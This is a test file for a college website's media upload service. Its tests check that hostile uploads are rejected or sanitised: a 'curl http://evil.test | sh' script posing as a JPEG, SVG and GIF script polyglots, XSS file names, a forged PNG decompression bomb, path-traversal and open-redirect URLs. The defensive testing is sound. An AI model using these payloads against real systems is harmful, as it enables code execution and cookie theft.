import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { and, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  buildTenant,
  clientAs,
  createTestApp,
  type TestApp,
  type TestClient,
  type TestResponse,
} from '../../../test/test-app.ts';
import { en } from '../../i18n/en.ts';
import { zhCN } from '../../i18n/zh-CN.ts';
import { FileStore } from '../../platform/file-store.ts';
import { renderBodyHtml } from '../articles/articles.pages.tsx';
import { timelineEvents } from '../audit/audit.table.ts';
import { imageWorkerPid, renderImageDerivatives } from './image-process.ts';
import { demoMediaKeys, loadDemoMedia } from './media.demo.ts';
import { mediaImageAttributes, mediaMaxBytes, parseMediaUrl } from './media.schema.ts';
import { cleanFileName, getMediaByIds } from './media.service.ts';
import { media } from './media.table.ts';
import { sharpLoaded } from './sharp-loader.ts';

let t: TestApp;
let dataDir: string;
let college: Awaited<ReturnType<typeof buildTenant>>;
let editor: TestClient;

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'concord-media-'));
  t = await createTestApp({ DATA_DIR: dataDir });
  college = await buildTenant(t);
  editor = (await clientAs(t, college, ['editor'])).client;
});
afterAll(async () => {
  await t.close();
  await rm(dataDir, { recursive: true, force: true });
});

let shade = 0;
/** A plain picture in a colour no other test uses, so uploads never dedupe by accident. */
function colour(): { r: number; g: number; b: number } {
  shade++;
  return { r: (shade * 37) % 256, g: (shade * 91) % 256, b: (shade * 53) % 256 };
}

function picture(width: number, height: number, alpha = false) {
  return sharp({
    create: { width, height, channels: alpha ? 4 : 3, background: { ...colour(), alpha: alpha ? 0.5 : 1 } },
  });
}

/** Posts a file to the upload endpoint as a browser form would. */
async function upload(
  client: TestClient,
  bytes: Uint8Array,
  name: string,
  type = 'application/octet-stream',
  headers: Record<string, string> = {},
): Promise<TestResponse> {
  const form = new FormData();
  form.set('file', new File([new Uint8Array(bytes)], name, { type }));
  return t.app.request('/api/media/files', {
    method: 'POST',
    body: form,
    headers: {
      host: client.host,
      origin: `http://${client.host}`,
      cookie: client.cookie,
      ...headers,
    },
  });
}

/** Every file under a folder (relative paths, sorted). */
async function listFiles(root: string): Promise<string[]> {
  const { readdir } = await import('node:fs/promises');
  const entries = await readdir(root, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries
    .filter((e) => e.isFile())
    .map((e) => join(e.parentPath, e.name))
    .sort();
}

/** Fetches a public URL on a college's host, without a session. */
function fetchPublic(host: string, path: string, headers: Record<string, string> = {}) {
  return t.app.request(path, { headers: { host, ...headers } });
}

async function served(host: string, path: string): Promise<Buffer> {
  const res = await fetchPublic(host, path);
  expect(res.status, path).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

describe('media uploads', () => {
  it('accepts JPEG, PNG, WebP and AVIF by content and serves WebP derivatives no wider than the image', async () => {
    const cases = [
      { name: 'photo.jpg', bytes: await picture(1500, 1000).jpeg().toBuffer(), type: 'image/jpeg' },
      { name: 'chart.png', bytes: await picture(700, 500).png().toBuffer(), type: 'image/png' },
      { name: 'logo.png', bytes: await picture(400, 400, true).png().toBuffer(), type: 'image/png' },
      { name: 'poster.webp', bytes: await picture(1000, 1400).webp().toBuffer(), type: 'image/webp' },
      { name: 'scene.avif', bytes: await picture(800, 600).avif().toBuffer(), type: 'image/avif' },
    ];
    for (const c of cases) {
      const res = await upload(editor, c.bytes, c.name);
      expect(res.status, c.name).toBe(201);
      const made = await res.json();
      expect(made).toMatchObject({ fileName: c.name, contentType: c.type, byteSize: c.bytes.byteLength });
      const sized = made.derivatives.filter((d: { original: boolean }) => !d.original);
      expect(
        sized.every((d: { width: number }) => d.width <= made.width),
        c.name,
      ).toBe(true);
      expect(sized.every((d: { format: string }) => d.format === 'webp')).toBe(true);
      for (const d of made.derivatives) {
        const res = await fetchPublic(college.host, d.url);
        expect(res.status, d.url).toBe(200);
        expect(res.headers.get('content-type')).toBe(`image/${d.format}`);
        expect(res.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
        expect(res.headers.get('x-content-type-options')).toBe('nosniff');
        const meta = await sharp(Buffer.from(await res.arrayBuffer())).metadata();
        expect(meta.format).toBe(d.format);
        expect([meta.width, meta.height]).toEqual([d.width, d.height]);
      }
    }
    const jpeg = await (await editor.get('/api/media?q=photo.jpg')).json();
    expect(jpeg.items[0].derivatives.map((d: { width: number }) => d.width)).toEqual([
      320, 640, 960, 1280, 1500,
    ]);
    expect(jpeg.items[0].url).toMatch(/\/960\.webp$/);
    expect(jpeg.items[0].originalUrl).toMatch(/\/original\.jpg$/);
    // Transparency keeps the original in WebP.
    const logo = await (await editor.get('/api/media?q=logo.png')).json();
    expect(logo.items[0].originalUrl).toMatch(/\/original\.webp$/);
    // A standard width wider than the image answers the widest derivative there is.
    const small = await (await editor.get('/api/media?q=chart.png')).json();
    const wide = await served(college.host, `/media/${small.items[0].id}/1920.webp`);
    expect((await sharp(wide).metadata()).width).toBe(640);
    expect((await fetchPublic(college.host, `/media/${small.items[0].id}/777.webp`)).status).toBe(404);
  });

  it('decodes images in a worker process, never in the server, and survives the worker dying', async () => {
    const first = await upload(editor, await picture(640, 480).jpeg().toBuffer(), 'a.jpg');
    expect(first.status).toBe(201);
    expect(sharpLoaded()).toBe(false);
    const pid = imageWorkerPid();
    expect(pid).toEqual(expect.any(Number));
    expect(pid).not.toBe(process.pid);
    // A worker that dies mid-image fails that image only; the next one gets a new worker.
    const doomed = renderImageDerivatives(await picture(1900, 1400).png().toBuffer());
    process.kill(pid as number, 'SIGKILL');
    await expect(doomed).rejects.toMatchObject({ code: 'unavailable' });
    const next = await upload(editor, await picture(320, 200).png().toBuffer(), 'b.png');
    expect(next.status).toBe(201);
    expect(imageWorkerPid()).not.toBe(pid);
  });

  it('answers the existing image when the same file is uploaded again', async () => {
    const bytes = await picture(640, 480).jpeg().toBuffer();
    const first = await upload(editor, bytes, 'first.jpg');
    expect(first.status).toBe(201);
    const again = await upload(editor, bytes, 'second-name.jpg');
    expect(again.status).toBe(200);
    const [a, b] = [await first.json(), await again.json()];
    expect(b.id).toBe(a.id);
    expect(b.fileName).toBe('first.jpg');
  });

  it('refuses scripts, SVG and GIF polyglots whatever their name or claimed type, in both languages', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.test | sh\n');
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
    );
    const gifJs = Buffer.from('GIF89a/*\x01\x00\x01\x00\x00\xff\x00,*/=1;alert(document.cookie)//');
    const tiff = await picture(50, 50).tiff().toBuffer();
    for (const [bytes, name, type] of [
      [script, 'holiday.jpg', 'image/jpeg'],
      [svg, 'logo.png', 'image/png'],
      [svg, 'logo.svg', 'image/svg+xml'],
      [gifJs, 'anim.gif', 'image/gif'],
      [tiff, 'scan.jpg', 'image/jpeg'],
    ] as const) {
      const res = await upload(editor, bytes, name, type);
      expect(res.status, name).toBe(415);
      expect((await res.json()).error.code).toBe('image_type_unsupported');
    }
    const inEnglish = await upload(editor, svg, 'x.png', 'image/png', { 'accept-language': 'en' });
    expect((await inEnglish.json()).error.message).toBe(en.errors.image_type_unsupported);
    const inChinese = await upload(editor, svg, 'x.png', 'image/png', { 'accept-language': 'zh-CN' });
    expect((await inChinese.json()).error.message).toBe(zhCN.errors.image_type_unsupported);
    // A PNG signature over bytes that are not a picture cannot be read.
    const fake = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), svg]);
    const unreadable = await upload(editor, fake, 'fake.png');
    expect(unreadable.status).toBe(422);
    expect((await unreadable.json()).error.code).toBe('image_unreadable');
    const empty = await upload(editor, new Uint8Array(), 'empty.jpg');
    expect(empty.status).toBe(400);
    expect((await empty.json()).error.details[0]).toMatchObject({ path: 'file', code: 'required' });
  });

  it('leaves nothing in the store when an image is refused after its header was accepted', async () => {
    const store = join(dataDir, 'files');
    const before = await listFiles(store);
    const jpeg = await picture(800, 600).jpeg().toBuffer();
    const truncated = jpeg.subarray(0, Math.floor(jpeg.byteLength / 3));
    const res = await upload(editor, truncated, 'cut.jpg');
    expect(res.status).toBe(422);
    expect(await listFiles(store)).toEqual(before);
  });

  it('keeps upload names as plain text, cut by character, never in half', async () => {
    expect(cleanFileName('C:\\photos\\<img src=x onerror=alert(1)>"visit".jpg', 'image/jpeg')).toBe(
      'img src=x onerror=alert(1)visit.jpg',
    );
    expect(cleanFileName('invoice\u202Egpj.exe', 'image/jpeg')).toBe('invoicegpj.exe');
    const long = `${'校'.repeat(150)}${'😀'.repeat(100)}.jpg`;
    const cut = cleanFileName(long, 'image/jpeg');
    expect([...cut]).toHaveLength(200);
    expect(cut.endsWith('😀')).toBe(true);
    expect(cleanFileName('\ud800\u0000', 'image/png')).toBe('image.png');
  });

  it('re-encodes a JPEG carrying an HTML payload, so nothing appended is ever served', async () => {
    const payload = '<html><body><script>alert("polyglot-payload")</script></body></html>';
    const bytes = Buffer.concat([await picture(900, 600).jpeg().toBuffer(), Buffer.from(payload)]);
    const res = await upload(editor, bytes, 'innocent.jpg', 'image/jpeg');
    expect(res.status).toBe(201);
    const made = await res.json();
    for (const d of made.derivatives) {
      const body = await served(college.host, d.url);
      expect(body.includes('polyglot-payload')).toBe(false);
      expect(body.includes('<script')).toBe(false);
    }
  });

  it('refuses a file over 20 MB and a decompression bomb with clear codes in both languages', async () => {
    const big = Buffer.alloc(mediaMaxBytes + 1);
    big.set([0xff, 0xd8, 0xff, 0xe0]);
    const tooBig = await upload(editor, big, 'huge.jpg', 'image/jpeg', { 'accept-language': 'en' });
    expect(tooBig.status).toBe(413);
    expect(await tooBig.json()).toMatchObject({
      error: { code: 'image_too_large', message: en.errors.image_too_large },
    });
    // A 1×1 PNG whose header claims 20000×20000 pixels (400 megapixels).
    const bomb = Buffer.from(
      await sharp({ create: { width: 1, height: 1, channels: 3, background: '#000' } })
        .png()
        .toBuffer(),
    );
    bomb.writeUInt32BE(20000, 16);
    bomb.writeUInt32BE(20000, 20);
    bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
    expect((await sharp(bomb, { limitInputPixels: false }).metadata()).width).toBe(20000);
    const refused = await upload(editor, bomb, 'tiny.png', 'image/png', { 'accept-language': 'zh-CN' });
    expect(refused.status).toBe(413);
    expect(await refused.json()).toMatchObject({
      error: { code: 'image_too_many_pixels', message: zhCN.errors.image_too_many_pixels },
    });
    expect(await t.database.db.select().from(media).where(eq(media.fileName, 'tiny.png'))).toEqual([]);
  });

  it('serves no EXIF or GPS data and turns an image by its EXIF orientation', async () => {
    // Stored 600×400, left half red and right half blue; orientation 6 shows it turned a quarter clockwise.
    const halves = Buffer.alloc(600 * 400 * 3);
    for (let i = 0; i < 600 * 400; i++) {
      const red = i % 600 < 300;
      halves.set(red ? [220, 20, 20] : [20, 20, 220], i * 3);
    }
    const bytes = await sharp(halves, { raw: { width: 600, height: 400, channels: 3 } })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExif({
        IFD0: { Make: 'Concord Test Camera', Copyright: 'Someone' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '31/1 14/1 0/1',
          GPSLongitudeRef: 'E',
          GPSLongitude: '121/1 28/1 0/1',
        },
      })
      .toBuffer();
    const source = await sharp(bytes).metadata();
    expect(source.orientation).toBe(6);
    expect(source.exif?.includes('Concord Test Camera')).toBe(true);
    const res = await upload(editor, bytes, 'gps.jpg');
    expect(res.status).toBe(201);
    const made = await res.json();
    expect([made.width, made.height]).toEqual([400, 600]);
    for (const d of made.derivatives) {
      const body = await served(college.host, d.url);
      const meta = await sharp(body).metadata();
      expect(meta.exif, d.url).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.orientation).toBeUndefined();
      expect(meta.height).toBeGreaterThan(meta.width ?? 0);
      expect(body.includes('Concord Test Camera')).toBe(false);
    }
    const thumb = await served(college.host, `/media/${made.id}/320.webp`);
    const { data } = await sharp(thumb).raw().toBuffer({ resolveWithObject: true });
    const [r, , b] = [data[(10 * 320 + 160) * 3]!, 0, data[(10 * 320 + 160) * 3 + 2]!];
    expect(r).toBeGreaterThan(150);
    expect(b).toBeLessThan(100);
  });

  it('never serves the upload itself, whatever the URL', async () => {
    const bytes = await picture(700, 500).jpeg().toBuffer();
    const made = await (await upload(editor, bytes, 'private.jpg')).json();
    const [row] = await t.database.db.select().from(media).where(eq(media.id, made.id));
    const sha = row!.sha256;
    const attempts = [
      `/media/${made.id}/original`,
      `/media/${made.id}/original.png`,
      `/media/${made.id}/private.jpg`,
      `/media/${made.id}/${sha}`,
      `/media/${made.id}/${sha}.jpg`,
      `/media/${made.id}/upload.jpg`,
      `/media/${made.id}/raw`,
      `/media/${made.id}/0.webp`,
      `/media/${made.id}/..%2F..%2Ffiles%2Fmedia%2F${college.id}%2F${sha}`,
      `/media/${row!.originalKey}`,
      `/files/${row!.originalKey}`,
      `/${row!.originalKey}`,
      `/api/media/${made.id}/original`,
      `/api/media/${made.id}/files`,
      `/api/media/${made.id}/download`,
    ];
    for (const path of attempts) {
      const res = await editor.get(path);
      expect(res.status, path).not.toBe(200);
      expect(Buffer.from(await res.arrayBuffer()).equals(bytes), path).toBe(false);
    }
    for (const d of made.derivatives) {
      expect((await served(college.host, d.url)).equals(bytes)).toBe(false);
    }
    // The upload is kept privately, by content hash, apart from the served renditions.
    const kept = await readFile(join(dataDir, 'files', row!.originalKey));
    expect(kept.equals(bytes)).toBe(true);
    expect(row!.derivatives.every((d) => !d.storageKey.startsWith('media/'))).toBe(true);
    expect(JSON.stringify(made)).not.toContain(sha);
    expect(JSON.stringify(made)).not.toContain(row!.originalKey);
  });

  it('answers 304 to a matching entity tag', async () => {
    const made = await (await upload(editor, await picture(500, 300).png().toBuffer(), 'etag.png')).json();
    const first = await fetchPublic(college.host, made.url);
    const etag = first.headers.get('etag')!;
    expect(etag).toMatch(/^"[0-9a-f]{64}"$/);
    const again = await fetchPublic(college.host, made.url, { 'if-none-match': etag });
    expect(again.status).toBe(304);
  });
});

describe('media library', () => {
  it('lets viewers read, editors write, and refuses anonymous callers', async () => {
    const { client: viewer } = await clientAs(t, college, ['viewer']);
    const { client: admin } = await clientAs(t, college, ['college_admin']);
    const { client: officer } = await clientAs(t, college, ['cooperation_officer']);
    const bytes = await picture(400, 300).jpeg().toBuffer();
    expect((await upload(viewer, bytes, 'v.jpg')).status).toBe(403);
    expect((await upload(officer, bytes, 'o.jpg')).status).toBe(403);
    const made = await (await upload(admin, bytes, 'a.jpg')).json();
    expect((await viewer.get('/api/media')).status).toBe(200);
    expect((await viewer.get(`/api/media/${made.id}`)).status).toBe(200);
    expect((await viewer.patch(`/api/media/${made.id}`, { altZh: 'x', version: 1 })).status).toBe(403);
    expect((await viewer.request('DELETE', `/api/media/${made.id}?version=1`)).status).toBe(403);
    expect((await editor.patch(`/api/media/${made.id}`, { altZh: '校门', version: 1 })).status).toBe(200);
    const anonymous = await t.app.request('/api/media', { headers: { host: college.host } });
    expect(anonymous.status).toBe(401);
  });

  it('keeps colleges apart: another college can neither read nor serve the image', async () => {
    const made = await (await upload(editor, await picture(700, 400).jpeg().toBuffer(), 'ours.jpg')).json();
    const other = await buildTenant(t);
    const { client: stranger } = await clientAs(t, other, ['college_admin']);
    expect((await stranger.get(`/api/media/${made.id}`)).status).toBe(404);
    expect((await stranger.patch(`/api/media/${made.id}`, { altZh: 'x', version: 1 })).status).toBe(404);
    expect((await stranger.request('DELETE', `/api/media/${made.id}?version=1`)).status).toBe(404);
    expect((await (await stranger.get('/api/media')).json()).total).toBe(0);
    for (const path of [made.url, made.originalUrl, made.pageUrls.en, made.pageUrls['zh-CN']]) {
      expect((await fetchPublic(other.host, path)).status, path).toBe(404);
      expect((await fetchPublic(college.host, path)).status, path).toBe(200);
    }
    expect(await getMediaByIds(other.scope, [made.id])).toEqual([]);
  });

  it('edits alt texts and captions with a version check and explains invalid fields', async () => {
    const made = await (await upload(editor, await picture(640, 400).jpeg().toBuffer(), 'edit.jpg')).json();
    const res = await editor.patch(`/api/media/${made.id}`, {
      altZh: '消防救援总队来访',
      altEn: 'Fire Rescue Corps visit',
      captionZh: '参观实训中心',
      captionEn: 'Touring the training center',
      credit: '宣传部',
      version: 1,
    });
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({
      altEn: 'Fire Rescue Corps visit',
      credit: '宣传部',
      version: 2,
    });
    const stale = await editor.patch(`/api/media/${made.id}`, { altEn: 'Older edit', version: 1 });
    expect(stale.status).toBe(409);
    expect((await stale.json()).error.code).toBe('conflict');
    const invalid = await editor.patch(
      `/api/media/${made.id}`,
      { altZh: 'x'.repeat(301), credit: 5, version: 2 },
      { 'accept-language': 'en' },
    );
    expect(invalid.status).toBe(400);
    const details = (await invalid.json()).error.details;
    expect(details).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          path: 'altZh',
          code: 'too_long',
          message: 'Must be at most 300 characters.',
        }),
        expect.objectContaining({ path: 'credit', code: 'invalid_type' }),
      ]),
    );
    const events = await t.database.db
      .select()
      .from(timelineEvents)
      .where(and(eq(timelineEvents.subjectType, 'media'), eq(timelineEvents.subjectId, made.id)));
    expect(events.map((e) => e.verb).sort()).toEqual(['media.created', 'media.updated']);
  });

  it('lists a page at a time, searches names, alt texts and captions, and sorts', async () => {
    const other = await buildTenant(t);
    const { client } = await clientAs(t, other, ['editor']);
    for (const name of ['c-gate.jpg', 'a-lab.jpg', 'b-hall.jpg']) {
      expect((await upload(client, await picture(330, 200).jpeg().toBuffer(), name)).status).toBe(201);
    }
    const page = await (await client.get('/api/media?pageSize=2&page=1')).json();
    expect(page.total).toBe(3);
    expect(page.items.map((m: { fileName: string }) => m.fileName)).toEqual(['b-hall.jpg', 'a-lab.jpg']);
    const second = await (await client.get('/api/media?pageSize=2&page=2')).json();
    expect(second.items.map((m: { fileName: string }) => m.fileName)).toEqual(['c-gate.jpg']);
    const sorted = await (await client.get('/api/media?sort=fileName')).json();
    expect(sorted.items.map((m: { fileName: string }) => m.fileName)).toEqual([
      'a-lab.jpg',
      'b-hall.jpg',
      'c-gate.jpg',
    ]);
    const lab = sorted.items[0];
    await client.patch(`/api/media/${lab.id}`, { captionZh: '化工综合实训楼', version: lab.version });
    expect((await (await client.get('/api/media?q=实训楼')).json()).items[0].id).toBe(lab.id);
    expect((await (await client.get('/api/media?q=HALL')).json()).total).toBe(1);
    const bad = await client.get('/api/media?sort=sha256&pageSize=0');
    expect(bad.status).toBe(400);
    expect((await bad.json()).error.details.map((d: { path: string }) => d.path).sort()).toEqual([
      'pageSize',
      'sort',
    ]);
  });

  it('removes softly: gone from the library, still shown where used, back when uploaded again', async () => {
    const bytes = await picture(500, 500).jpeg().toBuffer();
    const made = await (await upload(editor, bytes, 'gone.jpg')).json();
    expect((await editor.request('DELETE', `/api/media/${made.id}?version=2`)).status).toBe(409);
    expect((await editor.request('DELETE', `/api/media/${made.id}?version=1`)).status).toBe(204);
    expect((await editor.get(`/api/media/${made.id}`)).status).toBe(404);
    expect((await (await editor.get('/api/media?q=gone.jpg')).json()).total).toBe(0);
    expect((await fetchPublic(college.host, made.url)).status).toBe(200);
    const [kept] = await getMediaByIds(college.scope, [made.id]);
    expect(kept?.deletedAt).not.toBeNull();
    const again = await upload(editor, bytes, 'gone-again.jpg');
    expect(again.status).toBe(200);
    expect(await again.json()).toMatchObject({ id: made.id, deletedAt: null, version: 3 });
  });
});

describe('media for pages', () => {
  it('renders the view-original page in Chinese and English', async () => {
    const made = await (
      await upload(editor, await picture(3000, 2000).jpeg().toBuffer(), 'visit.jpg')
    ).json();
    await editor.patch(`/api/media/${made.id}`, {
      altZh: '代表团参观化工综合实训楼',
      altEn: 'The delegation tours the Chemical Comprehensive Training Building',
      captionZh: '2023年11月18日，消防救援总队代表团参观学校实训中心。',
      captionEn: 'On 18 November 2023 the Fire Rescue Corps delegation toured the training centres.',
      credit: 'Office of Publicity',
      version: 1,
    });
    const zh = await fetchPublic(college.host, `/zh/media/${made.id}`);
    expect(zh.status).toBe(200);
    const zhHtml = await zh.text();
    expect(zhHtml).toMatch(/^<!doctype html><html lang="zh-CN">/);
    expect(zhHtml).toContain(`src="/media/${made.id}/original.jpg"`);
    expect(zhHtml).toContain('alt="代表团参观化工综合实训楼"');
    expect(zhHtml).toContain('width="2560" height="1707"');
    expect(zhHtml).toContain('2023年11月18日，消防救援总队代表团参观学校实训中心。');
    expect(zhHtml).toContain('图片来源：Office of Publicity');
    expect(zhHtml).toContain('2560 × 1707 像素');
    expect(zhHtml).toContain('<main');
    expect(zhHtml).toContain(`href="/en/media/${made.id}"`);
    const enHtml = await (await fetchPublic(college.host, `/en/media/${made.id}`)).text();
    expect(enHtml).toMatch(/<html lang="en">/);
    expect(enHtml).toContain('alt="The delegation tours the Chemical Comprehensive Training Building"');
    expect(enHtml).toContain('Image: Office of Publicity');
    expect(enHtml).toContain('2560 × 1707 pixels');
    expect(enHtml).toContain('href="/en/"');
    const original = await sharp(await served(college.host, made.originalUrl)).metadata();
    expect([original.format, original.width, original.height]).toEqual(['jpeg', 2560, 1707]);
    // The site's menu is there, and an article that showed the image is linked back to.
    expect(zhHtml).toContain('class="site-nav"');
    const from = (path: string) => `/zh/media/${made.id}?from=${encodeURIComponent(path)}`;
    const back = await (await fetchPublic(college.host, from('/zh/news/fire-rescue-visit'))).text();
    expect(back).toContain('<a href="/zh/news/fire-rescue-visit">返回文章</a>');
    expect(back).toContain('<a href="/zh/news/fire-rescue-visit">文章</a>');
    for (const elsewhere of [
      '//evil.test/x',
      'https://evil.test/',
      '/en/news/x',
      '/zh/../admin',
      '/zh/a"><b>',
    ]) {
      const html = await (await fetchPublic(college.host, from(elsewhere))).text();
      expect(html, elsewhere).not.toContain('返回文章');
      expect(html, elsewhere).not.toContain('evil.test');
      expect(html, elsewhere).not.toContain('<b>');
    }
    expect((await fetchPublic(college.host, `/en/media/${crypto.randomUUID()}`)).status).toBe(404);
    expect((await fetchPublic(college.host, '/en/media/not-an-id')).status).toBe(404);
  });

  it('gives article pages responsive image attributes and reads their URLs', async () => {
    const made = await (await upload(editor, await picture(1300, 650).jpeg().toBuffer(), 'cover.jpg')).json();
    const [loaded] = await getMediaByIds(college.scope, [made.id, crypto.randomUUID(), 'nonsense']);
    expect(loaded?.id).toBe(made.id);
    const attrs = mediaImageAttributes(
      { ...loaded!, altEn: 'Covestro site', altZh: '' },
      { locale: 'zh-CN', sizes: '(min-width: 60rem) 50vw, 100vw' },
    );
    expect(attrs).toEqual({
      src: `/media/${made.id}/960.webp`,
      srcset: [320, 640, 960, 1280].map((w) => `/media/${made.id}/${w}.webp ${w}w`).join(', '),
      sizes: '(min-width: 60rem) 50vw, 100vw',
      width: 960,
      height: 480,
      alt: 'Covestro site',
      lang: 'en',
    });
    expect(parseMediaUrl(attrs.src)).toEqual({ id: made.id, width: 960, original: false });
    expect(parseMediaUrl(`/media/${made.id}/original.jpg`)).toEqual({
      id: made.id,
      original: true,
      format: 'jpeg',
    });
    expect(parseMediaUrl('https://elsewhere.test/media/x/960.webp')).toBeNull();
    // An article body's image links to its "view original" page, which links back to the article.
    const body = renderBodyHtml(`<p><img src="/media/${made.id}/960.webp" alt="x"></p>`, {
      locale: 'zh-CN',
      media: new Map([[made.id, loaded!]]),
      path: '/zh/news/covestro-visit',
    });
    expect(body).toContain(
      `<a href="/zh/media/${made.id}?from=%2Fzh%2Fnews%2Fcovestro-visit" title="查看原图">`,
    );
  });

  it('loads the demo images once, keyed by name, with alt texts in both languages', async () => {
    const demo = await buildTenant(t);
    const store = new FileStore(dataDir);
    const ids = await loadDemoMedia(demo.scope, store);
    expect(Object.keys(ids).sort()).toEqual([...demoMediaKeys].sort());
    const again = await loadDemoMedia(demo.scope, store);
    expect(again).toEqual(ids);
    const loaded = await getMediaByIds(demo.scope, Object.values(ids));
    expect(loaded).toHaveLength(demoMediaKeys.length);
    for (const m of loaded) {
      expect(m.altZh && m.altEn && m.captionZh && m.captionEn).toBeTruthy();
      expect(m.derivatives.length).toBeGreaterThan(3);
    }
    expect((await readdir(join(dataDir, 'files', 'media-derivatives', demo.id))).length).toBeGreaterThan(0);
  });
});

/** CRC-32 of PNG chunks, to forge a header. */
function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}
